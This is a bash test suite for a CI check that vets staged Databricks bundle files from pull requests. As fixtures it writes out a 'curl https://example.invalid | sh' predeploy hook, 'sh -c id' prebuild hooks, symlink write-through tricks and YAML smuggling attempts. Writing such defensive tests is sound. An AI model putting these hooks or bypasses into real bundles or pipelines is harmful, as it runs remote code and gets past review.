#!/usr/bin/env bash
# Tests scripts/check-staged-bundle.sh: each case stages a bundle as the Verify job does (the
# repository's databricks.yml and committed resources/lakebase.yml), changes it the way a pull
# request could, and expects the check to accept it or to stop with `error: ...`.
# Ends with "N passed, N failed"; exits non-zero when a case fails.
set -uo pipefail
ROOT="$(cd "$(dirname "$0")/../.." && pwd)"
CHECK="$ROOT/scripts/check-staged-bundle.sh"
work="$(mktemp -d)"
trap 'rm -rf "$work"' EXIT
passed=0
failed=0
case_number=0
# Lines appended to the committed file are line $next (the topology may grow; nothing here assumes its length).
last="$(wc -l < "$ROOT/resources/lakebase.yml")"
next=$((last + 1))

# A fresh staged bundle; the pull request's databricks.yml carries a hook that must never reach the CLI.
stage() {
  case_number=$((case_number + 1))
  dir="$work/case-$case_number"
  mkdir -p "$dir/resources"
  {
    cat "$ROOT/databricks.yml"
    printf 'experimental:\n  scripts:\n    predeploy: "curl https://example.invalid | sh"\n'
  } > "$dir/databricks.yml"
  cp "$ROOT/resources/lakebase.yml" "$dir/resources/lakebase.yml"
  yml="$dir/resources/lakebase.yml"
}

ok() { echo "ok    $1"; passed=$((passed + 1)); }
fail() { echo "FAIL  $1"; [[ -z "${2:-}" ]] || printf '%s\n' "$2" | sed 's/^/      /'; failed=$((failed + 1)); }

# Expects the check to accept the staged bundle.
accepts() {
  local name="$1" out
  if out="$("$CHECK" "$dir" 2>&1)"; then ok "$name"; else fail "$name" "$out"; fi
}

# Expects the check to refuse with an error whose text contains $2.
refuses() {
  local name="$1" expected="$2" out status=0
  out="$("$CHECK" "$dir" 2>&1)" || status=$?
  if [[ $status -eq 1 && "$out" == *"error: "*"$expected"* ]]; then
    ok "$name"
  else
    fail "$name" "exit $status, expected an error containing \"$expected\"; got: $out"
  fi
}

# Inserts a line after line N of resources/lakebase.yml.
insert_after() {
  local n="$1" text="$2"
  awk -v n="$n" -v text="$text" '{ print } NR == n { print text }' "$yml" > "$yml.new" && mv "$yml.new" "$yml"
}

stage
accepts "the committed resources/lakebase.yml passes"
if cmp -s "$ROOT/databricks.yml" "$dir/databricks.yml"; then
  ok "the pull request's databricks.yml is replaced by the repository's"
else
  fail "the pull request's databricks.yml is replaced by the repository's" "$(diff "$ROOT/databricks.yml" "$dir/databricks.yml")"
fi
if cmp -s "$ROOT/resources/lakebase.yml" "$dir/resources/lakebase.yml"; then
  ok "an accepted resources/lakebase.yml is left as it was"
else
  fail "an accepted resources/lakebase.yml is left as it was"
fi

stage
printf 'experimental:\n  scripts:\n    prebuild: "sh -c id"\n' >> "$yml"
refuses "experimental: at top level" "line $next: only \`resources:\` may start at column 0"
if ! cmp -s "$ROOT/databricks.yml" "$dir/databricks.yml"; then
  ok "a refused bundle is left alone (its databricks.yml is not touched)"
else
  fail "a refused bundle is left alone (its databricks.yml is not touched)"
fi

stage
printf 'python:\n  mutators: [x]\n' >> "$yml"
refuses "python: at top level" "line $next:"

stage
printf 'resources:\n  jobs: {}\n' > "$dir/resources/extra.yml"
refuses "an extra file" "unexpected file \"resources/extra.yml\""

stage
printf 'x\n' > "$dir/notes.txt"
refuses "an extra file next to databricks.yml" "unexpected file \"notes.txt\""

stage
mkdir -p "$dir/.databricks"
printf '{}\n' > "$dir/.databricks/state.json"
refuses "a hidden directory" "hidden file \".databricks\""

stage
printf 'resources:\n' > "$dir/resources/.more.yml"
refuses "a hidden file" "hidden file \"resources/.more.yml\""

stage
mv "$yml" "$work/elsewhere-$case_number.yml"
ln -s "$work/elsewhere-$case_number.yml" "$yml"
refuses "resources/lakebase.yml as a symbolic link" "symbolic link \"resources/lakebase.yml\""

stage
printf 'keep me\n' > "$work/target-$case_number"
rm "$dir/databricks.yml"
ln -s "$work/target-$case_number" "$dir/databricks.yml"
refuses "databricks.yml as a symbolic link" "symbolic link \"databricks.yml\""
if [[ "$(cat "$work/target-$case_number")" == "keep me" ]]; then
  ok "the copy never writes through a link"
else
  fail "the copy never writes through a link"
fi

stage
rm "$dir/databricks.yml"
mkdir "$dir/databricks.yml"
refuses "databricks.yml as a directory" "unexpected file \"databricks.yml\""

stage
rm "$yml"
refuses "no resources/lakebase.yml" "has no resources/lakebase.yml"

stage
printf '  jobs:\n    evil:\n      name: x\n' >> "$yml"
refuses "a jobs: resource type" "line $next: \"  jobs:\" is not one of the resource types"

stage
insert_after 2 '  postgres_projects: {}'
refuses "a flow mapping at the resource-type level" "line 3: \"  postgres_projects: {}\""

stage
awk 'NR == 1 { print "resources: {experimental: {scripts: {prebuild: id}}}"; next } { print }' "$yml" > "$yml.new" && mv "$yml.new" "$yml"
refuses "a flow mapping at top level" "line 1: only \`resources:\` may start at column 0"

stage
insert_after 2 $'    experimental:\n      scripts: {}'
refuses "indented content right after resources: (it would be a key of resources)" "line 3 is indented content outside a resource type"

stage
insert_after 3 $'      comment:\tx'
refuses "a tab" "line 4 has a tab"

stage
insert_after "$last" '---'
refuses "a document marker ---" "line $next is a YAML document marker"

stage
insert_after "$last" '...'
refuses "a document marker ..." "line $next is a YAML document marker"

stage
insert_after 4 '      display_name: !include secrets.yml'
refuses "a YAML tag" "line 5 has a YAML tag, anchor or alias"

stage
insert_after 4 '      display_name: &name lakeforge'
refuses "an anchor" "line 5 has a YAML tag, anchor or alias"

stage
insert_after 4 '      - *name'
refuses "an alias in a sequence" "line 5 has a YAML tag, anchor or alias"

stage
sed -i '2s/$/\r/' "$yml"
refuses "a carriage return" "line 2 has a control character"

stage
insert_after 4 $'      display_name: x\u2028experimental: {}'
refuses "a Unicode line separator (a line break to a YAML reader)" "line 5 has a character a YAML reader takes for a line break"

stage
insert_after 4 $'      display_name: x\u0085experimental: {}'
refuses "a NEL (a line break to a YAML reader)" "line 5 has a character a YAML reader takes for a line break"

stage
printf 'resources:\n  postgres_roles:\n' >> "$yml"
refuses "a second resources:" "line $next: a second \`resources:\`"

stage
printf '  postgres_projects:\n    other:\n      project_id: x\n' >> "$yml"
refuses "a resource type twice" "line $next: \`postgres_projects\` appears a second time"

stage
insert_after 4 '   odd: 3'
refuses "3-space indentation" "line 5 is indented by neither 2 nor 4 or more spaces"

echo "$passed passed, $failed failed"
[[ $failed -eq 0 ]]
